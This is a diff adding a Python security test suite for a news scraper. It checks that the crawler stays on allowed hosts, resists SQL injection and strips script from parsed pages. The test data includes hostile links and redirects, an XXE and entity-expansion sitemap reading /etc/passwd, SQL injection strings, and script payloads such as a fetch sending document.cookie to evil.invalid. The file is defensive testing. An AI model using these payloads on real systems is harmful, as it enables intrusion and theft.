@@ -1,0 +1,361 @@
+"""Security: kabar only ever asks allowed hosts over http(s), never builds SQL from user text, never runs a page.
+
+1. A source whose listing, feed, robots.txt, sitemap index, sitemaps (one with an XXE DOCTYPE) and article
+   pages are full of hostile links (other hosts, look-alike hosts, userinfo tricks, IP spellings, IDN
+   homographs, javascript:/data:/file:/ftp:/gopher: schemes) and whose redirects point at the same places is
+   crawled over an ``httpx.MockTransport`` that records every request: every request must be http(s) to an
+   allowed host, and nothing from /etc/passwd may show up anywhere.
+2. ``kabar search/latest/export`` with SQL in every user-controlled argument: the tables are still there,
+   nothing leaks across ``--source``, and a bad FTS query is exit 2, never a traceback.
+3. A page full of <script>, event handlers, <template>, <noscript>, comments and a JSON-LD body: the parsed
+   and the stored text hold none of it.
+"""
+
+from __future__ import annotations
+
+import json
+import os
+import sqlite3
+import subprocess
+import sys
+import threading
+from concurrent.futures import ThreadPoolExecutor
+from dataclasses import dataclass
+from pathlib import Path
+
+import httpx
+import pytest
+from hostile_server import article_html
+
+from scraper.cli_crawl import run_crawl
+from scraper.config import Config, config_from_dict
+from scraper.demo import demo_config, serve_demo
+from scraper.parse import parse_html
+from scraper.pipeline import crawl_source
+from storage.store import Store
+
+pytestmark = pytest.mark.slow
+
+REPO = Path(__file__).resolve().parent.parent
+HOST = "fam68.example"
+ALLOWED = {HOST, "www." + HOST}
+BASE = f"http://{HOST}"
+GOOD_PARAS = [
+    "Dinas Perhubungan Kota Serang menambah dua puluh armada bus sekolah gratis untuk pelajar SD dan SMP "
+    "mulai pekan depan, kata kepala dinas kepada wartawan pada hari Selasa.",
+    "Armada baru melayani enam rute yang menghubungkan kecamatan di pinggiran kota dengan pusat kota, "
+    "dengan jadwal pagi dan siang hari sesuai jam sekolah.",
+    "Pemerintah kota menyiapkan anggaran perawatan dan gaji sopir dari APBD perubahan tahun ini, "
+    "sementara pendaftaran dibuka melalui sekolah masing-masing.",
+]
+
+# Links a page may carry that must never be requested. Paths look like articles so only the host or the
+# scheme can stop them.
+EVIL_LINKS = [
+    "http://evil.invalid/2025/01/curian-1/",
+    "//evil.invalid/2025/01/curian-2/",
+    "HTTP://EVIL.INVALID/2025/01/curian-3/",
+    "https://evil.invalid/2025/01/curian-4/",
+    f"http://{HOST}.evil.invalid/2025/01/curian-5/",
+    f"http://evil{HOST}/2025/01/curian-6/",
+    f"http://{HOST}@evil.invalid/2025/01/curian-7/",
+    f"http://{HOST}%2f@evil.invalid/2025/01/curian-8/",
+    f"http://{HOST}\\@evil.invalid/2025/01/curian-9/",
+    "http://evil.invalid#@fam68.example/2025/01/curian-10/",
+    "http://[::1]/2025/01/curian-11/",
+    "http://127.0.0.1/2025/01/curian-12/",
+    "http://0x7f000001/2025/01/curian-13/",
+    "http://2130706433/2025/01/curian-14/",
+    "http://localhost/2025/01/curian-15/",
+    "http://fam68.exаmple/2025/01/curian-16/",          # Cyrillic 'а'
+    "javascript:fetch('http://evil.invalid/2025/01/curian-17/')",
+    "data:text/html,<a href='http://evil.invalid/2025/01/curian-18/'>x</a>",
+    "file:///etc/passwd",
+    f"ftp://{HOST}/2025/01/curian-19/",
+    f"gopher://{HOST}/2025/01/curian-20/",
+    f"ws://{HOST}/2025/01/curian-21/",
+    f"mailto:redaksi@{HOST}",
+    f"view-source:{BASE}/2025/01/curian-22/",
+]
+REDIRECTS = {
+    "/2025/01/alih-1/": "http://evil.invalid/2025/01/curian-r1/",
+    "/2025/01/alih-2/": "//evil.invalid/2025/01/curian-r2/",
+    "/2025/01/alih-3/": "javascript:alert(document.cookie)",
+    "/2025/01/alih-4/": "file:///etc/passwd",
+    "/2025/01/alih-5/": f"http://{HOST}@evil.invalid/2025/01/curian-r5/",
+    "/2025/01/alih-6/": "/2025/01/alih-7/",
+    "/2025/01/alih-7/": f"gopher://{HOST}/2025/01/curian-r7/",
+    "/2025/01/alih-8/": "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
+    "/2025/01/alih-9/": "http://[::1]:22/2025/01/curian-r9/",
+    "/2025/01/alih-10/": f"http://www.{HOST}/2025/01/berita-sub/",     # allowed subdomain: followed
+}
+
+
+def _good_page(title: str, head_extra: str = "") -> bytes:
+    page = article_html(title, GOOD_PARAS)
+    tricks = (
+        '<link rel="canonical" href="http://evil.invalid/2025/01/kanonik/">'
+        '<link rel="next" href="http://evil.invalid/2025/01/halaman-2/">'
+        '<link rel="alternate" type="application/rss+xml" href="http://evil.invalid/feed/">'
+        '<meta http-equiv="refresh" content="0;url=http://evil.invalid/2025/01/segar/">'
+        '<link rel="amphtml" href="http://evil.invalid/2025/01/amp/">'
+    )
+    links = "".join(f'<a href="{u}">tautan</a> ' for u in EVIL_LINKS)
+    page = page.replace("</head>", tricks + head_extra + "</head>")
+    page = page.replace("</article>", f'</article><nav class="pagination"><a href="http://evil.invalid/2025/01/x/2/">2'
+                                      f'</a></nav><aside>{links}</aside>')
+    return page.encode("utf-8")
+
+
+XXE_SITEMAP = (b'<?xml version="1.0"?>\n<!DOCTYPE urlset [<!ENTITY xxe SYSTEM "file:///etc/passwd">'
+               b'<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">'
+               b'<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>\n'
+               b'<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">'
+               b'<url><loc>http://fam68.example/2025/01/xxe-&xxe;/</loc></url>'
+               b'<url><loc>http://fam68.example/2025/01/lol-&lol3;/</loc></url>'
+               b'<url><loc>http://fam68.example/2025/01/berita-peta/</loc></url>'
+               + b"".join(f"<url><loc>{u.replace('&', '&amp;')}</loc></url>".encode() for u in EVIL_LINKS
+                          if u.startswith(("http", "HTTP", "//")))
+               + b"</urlset>")
+
+
+class HostileSite:
+    """A MockTransport handler: the allowed hosts answer; anything else is recorded and answers 200."""
+
+    def __init__(self) -> None:
+        self.requests: list[httpx.Request] = []
+        self.lock = threading.Lock()
+        listing_links = [*EVIL_LINKS, *REDIRECTS, "/2025/01/berita-aman/", f"http://www.{HOST}/2025/01/berita-sub/"]
+        listing = ("<!DOCTYPE html><html><head><meta charset='utf-8'><title>FAM68</title>"
+                   "<link rel='alternate' type='application/rss+xml' href='http://evil.invalid/feed/'></head><body>"
+                   + "".join(f'<h2><a href="{u}">Berita {i}</a></h2>' for i, u in enumerate(listing_links))
+                   + '<a class="next page-numbers" href="http://evil.invalid/page/2/">Berikutnya</a></body></html>')
+        feed_items = "".join(f"<item><title>t{i}</title><link>{u.replace('&', '&amp;')}</link></item>"
+                             for i, u in enumerate([*EVIL_LINKS, f"{BASE}/2025/01/berita-umpan/"]))
+        self.pages: dict[str, tuple[int, dict[str, str], bytes]] = {
+            "/": (200, {"content-type": "text/html"}, listing.encode()),
+            "/robots.txt": (200, {"content-type": "text/plain"},
+                            f"User-agent: *\nAllow: /\nSitemap: http://evil.invalid/sitemap.xml\n"
+                            f"Sitemap: file:///etc/passwd\nSitemap: {BASE}/sitemap.xml\n".encode()),
+            "/feed/": (200, {"content-type": "application/rss+xml"},
+                       f"<?xml version='1.0'?><rss version='2.0'><channel><title>f</title>{feed_items}"
+                       f"</channel></rss>".encode()),
+            "/sitemap.xml": (200, {"content-type": "application/xml"}, (
+                '<?xml version="1.0"?><sitemapindex xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">'
+                f"<sitemap><loc>{BASE}/post-sitemap.xml</loc></sitemap>"
+                "<sitemap><loc>http://evil.invalid/sitemap2.xml</loc></sitemap>"
+                "<sitemap><loc>file:///etc/passwd</loc></sitemap></sitemapindex>").encode()),
+            "/post-sitemap.xml": (200, {"content-type": "application/xml"}, XXE_SITEMAP),
+            "/2025/01/berita-aman/": (200, {"content-type": "text/html"}, _good_page("Bus Sekolah Gratis di Serang")),
+            "/2025/01/berita-sub/": (200, {"content-type": "text/html"}, _good_page("Bus Sekolah Ditambah Lagi")),
+            "/2025/01/berita-umpan/": (200, {"content-type": "text/html"}, _good_page("Rute Bus Sekolah Baru")),
+            "/2025/01/berita-peta/": (200, {"content-type": "text/html"}, _good_page("Peta Rute Bus Sekolah")),
+        }
+        for path, target in REDIRECTS.items():
+            self.pages[path] = (302, {"location": target}, b"")
+
+    def __call__(self, request: httpx.Request) -> httpx.Response:
+        with self.lock:
+            self.requests.append(request)
+        if request.url.host.rstrip(".") not in ALLOWED:
+            return httpx.Response(200, headers={"content-type": "text/html"}, content=b"<h1>stolen</h1>")
+        status, headers, body = self.pages.get(request.url.path, (404, {"content-type": "text/html"}, b"404"))
+        return httpx.Response(status, headers=headers, content=body)
+
+
+def _config(db: Path) -> Config:
+    return config_from_dict({
+        "storage": {"path": str(db)},
+        "http": {"per_host_delay": 0.0, "retries": 0, "timeout": 5.0},
+        "sources": [{"name": "fam68", "start_urls": [f"{BASE}/"], "feeds": [f"{BASE}/feed/"],
+                     "allowed_domains": [HOST]}],
+    }, "<security>")
+
+
+@pytest.fixture(scope="module")
+def hostile_crawl(tmp_path_factory: pytest.TempPathFactory) -> tuple[HostileSite, sqlite3.Connection]:
+    db = tmp_path_factory.mktemp("sec") / "s.db"
+    site = HostileSite()
+    config = _config(db)
+    with Store.open(str(db)) as store:
+        summary = crawl_source(config.sources[0], config, store, transport=httpx.MockTransport(site))
+    assert summary.status == "ok", summary.errors
+    conn = sqlite3.connect(db)
+    return site, conn
+
+
+def test_every_request_is_http_to_an_allowed_host(hostile_crawl: tuple[HostileSite, sqlite3.Connection]) -> None:
+    site, _ = hostile_crawl
+    assert site.requests, "nothing was crawled"
+    bad = [str(r.url) for r in site.requests
+           if r.url.scheme not in ("http", "https") or r.url.host.rstrip(".") not in ALLOWED]
+    assert bad == [], bad
+
+
+def test_the_allowed_pages_were_reached(hostile_crawl: tuple[HostileSite, sqlite3.Connection]) -> None:
+    """Guard: the crawl did read the listing, the feed, the sitemaps and followed the allowed redirect."""
+    site, conn = hostile_crawl
+    asked = {r.url.path for r in site.requests}
+    assert {"/", "/feed/", "/robots.txt", "/sitemap.xml", "/post-sitemap.xml", "/2025/01/alih-10/"} <= asked
+    titles = {t for (t,) in conn.execute("SELECT title FROM articles")}
+    assert {"Bus Sekolah Gratis di Serang", "Bus Sekolah Ditambah Lagi", "Rute Bus Sekolah Baru",
+            "Peta Rute Bus Sekolah"} <= titles
+
+
+def test_redirects_out_of_bounds_are_skipped_with_a_reason(
+        hostile_crawl: tuple[HostileSite, sqlite3.Connection]) -> None:
+    _, conn = hostile_crawl
+    for path, target in REDIRECTS.items():
+        if path in ("/2025/01/alih-6/", "/2025/01/alih-10/"):
+            continue
+        row = conn.execute("SELECT error FROM pages WHERE url = ?", (BASE + path,)).fetchone()
+        assert row is not None and row[0], f"{path} -> {target}: no reason recorded"
+        assert "redirect" in row[0].lower(), row[0]
+
+
+def test_no_entity_was_expanded_and_no_local_file_read(
+        hostile_crawl: tuple[HostileSite, sqlite3.Connection]) -> None:
+    site, conn = hostile_crawl
+    urls = [str(r.url) for r in site.requests]
+    assert not any("root:" in u or "lollol" in u for u in urls), urls
+    dump = "\n".join(str(v) for table in ("pages", "articles", "article_urls")
+                     for row in conn.execute(f"SELECT * FROM {table}") for v in row)   # noqa: S608 (fixed names)
+    assert "root:x:0:0" not in dump and "lollollol" not in dump
+
+
+# ---- SQL from user text -------------------------------------------------------------------------------
+
+INJECTIONS = [
+    ("search", "'; DROP TABLE articles; --"),
+    ("search", "x\"; DROP TABLE articles; --"),
+    ("search", "banten' OR '1'='1"),
+    ("search", "banten OR imigrasi NOT tidak"),
+    ("search", "title:banten"),
+    ("search", "NEAR(banten imigrasi, 5)"),
+    ("search", "banten*"),
+    ("search", "*"),
+    ("search", "^banten"),
+    ("search", "{title text}: banten"),
+    ("search", "banten) UNION SELECT name, sql FROM sqlite_master --"),
+    ("latest", "--source", "x' OR '1'='1"),
+    ("latest", "--source", "%"),
+    ("latest", "--since", "2025-01-01' OR 1=1 --"),
+    ("export", "--format", "jsonl", "--source", "fam68-demo'; DELETE FROM articles; --"),
+    ("stats", "--source", "'); DROP TABLE runs; --"),
+]
+
+
+@dataclass
+class QueryRun:
+    argv: tuple[str, ...]
+    proc: subprocess.CompletedProcess[str]
+
+
+def _env() -> dict[str, str]:
+    env = dict(os.environ)
+    env["PYTHONPATH"] = str(REPO) + os.pathsep + env.get("PYTHONPATH", "")
+    return env
+
+
+def _schema(db: Path) -> list[tuple[str, str]]:
+    conn = sqlite3.connect(db)
+    try:
+        return sorted(conn.execute("SELECT type, name FROM sqlite_master").fetchall())
+    finally:
+        conn.close()
+
+
+def _counts(db: Path) -> dict[str, int]:
+    conn = sqlite3.connect(db)
+    try:
+        return {t: conn.execute(f"SELECT count(*) FROM {t}").fetchone()[0]   # noqa: S608 (fixed names)
+                for t in ("articles", "segments", "runs", "sources", "article_urls", "pages")}
+    finally:
+        conn.close()
+
+
+def test_query_commands_never_run_user_text_as_sql(tmp_path: Path) -> None:
+    db = tmp_path / "q.db"
+    with serve_demo() as base_url:
+        config = demo_config(base_url, str(db))
+        with Store.open(str(db)) as store:
+            outcome = run_crawl(config, store, config.sources)
+    assert outcome.exit_code == 0
+    schema, counts = _schema(db), _counts(db)
+
+    def run(argv: tuple[str, ...]) -> QueryRun:
+        full = [sys.executable, "-m", "scraper", "--db", str(db), *argv]
+        if argv[0] != "export":
+            full += ["--format", "json"]
+        return QueryRun(argv, subprocess.run(full, env=_env(), capture_output=True, text=True, timeout=120))
+
+    with ThreadPoolExecutor(max_workers=6) as pool:
+        runs = list(pool.map(run, INJECTIONS))
+
+    assert _schema(db) == schema
+    assert _counts(db) == counts
+    for r in runs:
+        assert r.proc.returncode in (0, 2), (r.argv, r.proc.returncode, r.proc.stderr[-2000:])
+        assert "Traceback" not in r.proc.stderr, (r.argv, r.proc.stderr[-2000:])
+        if r.proc.returncode == 2:
+            lines = [x for x in r.proc.stderr.splitlines() if x.strip()]
+            assert len(lines) == 1 and lines[0].startswith("kabar: error: "), (r.argv, r.proc.stderr)
+        rows = [json.loads(x) for x in r.proc.stdout.splitlines() if x.strip()]
+        if "--source" in r.argv:
+            assert rows == [], f"{r.argv}: a source name that matches no source returned rows"
+        if r.argv[1:] == ("'; DROP TABLE articles; --",):
+            assert all("sql" not in row for row in rows)
+
+
+# ---- nothing from a page is executed ---------------------------------------------------------------
+
+MARKER = "KABAR_EXECUTED_MARKER"
+SCRIPTED = (
+    "<!DOCTYPE html><html lang='id'><head><meta charset='utf-8'><title>Bus Sekolah – FAM68</title>"
+    f"<script>require('fs').writeFileSync('/tmp/{MARKER}', 'x'); document.write('{MARKER}-head')</script>"
+    f"<style>body::after {{ content: '{MARKER}-style' }}</style>"
+    "<script type='application/ld+json'>{\"@type\": \"NewsArticle\", \"headline\": \"Bus Sekolah Gratis\", "
+    f"\"articleBody\": \"<script>{MARKER}-jsonld</script>\"}}</script>"
+    "</head><body><article><h1 class='entry-title'>Bus Sekolah Gratis</h1><div class='entry-content'>"
+    f"<p>FAM68 – {GOOD_PARAS[0]}</p>"
+    f"<script>fetch('http://evil.invalid/?c=' + document.cookie); /* {MARKER}-inline */</script>"
+    f"<p onclick=\"alert('{MARKER}-onclick')\">{GOOD_PARAS[1]}</p>"
+    f"<noscript><p>{MARKER}-noscript aktifkan JavaScript untuk membaca berita ini dengan lengkap.</p></noscript>"
+    f"<template><p>{MARKER}-template isi tersembunyi yang tidak pernah ditampilkan oleh peramban.</p></template>"
+    f"<!-- <p>{MARKER}-comment</p> -->"
+    f"<iframe srcdoc=\"<script>{MARKER}-iframe</script>\"></iframe>"
+    f"<img src='x' onerror=\"{MARKER}-onerror\">"
+    f"<p>{GOOD_PARAS[2]}</p>"
+    f"<svg><script>{MARKER}-svg</script></svg>"
+    "</div></article></body></html>"
+)
+
+
+def test_parser_output_holds_no_script_text() -> None:
+    art = parse_html(SCRIPTED.encode(), f"{BASE}/2025/01/skrip/")
+    assert art.title == "Bus Sekolah Gratis"
+    kept = " ".join([art.title or "", *(h or "" for s in art.segments for h in [s.headline]),
+                     *(p for s in art.segments for p in s.paragraphs)])
+    assert MARKER not in kept, kept
+    assert "document.cookie" not in kept and "require(" not in kept
+    assert GOOD_PARAS[1][:60] in kept
+
+
+def test_stored_text_holds_no_script_text(tmp_path: Path) -> None:
+    site = HostileSite()
+    site.pages["/2025/01/berita-aman/"] = (200, {"content-type": "text/html"}, SCRIPTED.encode())
+    db = tmp_path / "x.db"
+    config = _config(db)
+    with Store.open(str(db)) as store:
+        crawl_source(config.sources[0], config, store, transport=httpx.MockTransport(site))
+    conn = sqlite3.connect(db)
+    try:
+        row = conn.execute("SELECT id, title, text FROM articles WHERE url = ?",
+                           (f"{BASE}/2025/01/berita-aman/",)).fetchone()
+        assert row is not None
+        segs = " ".join(f"{h or ''} {t}" for h, t in conn.execute(
+            "SELECT headline, text FROM segments WHERE article_id = ?", (row[0],)))
+    finally:
+        conn.close()
+    assert MARKER not in row[1] + row[2] + segs
+    assert not Path(f"/tmp/{MARKER}").exists()
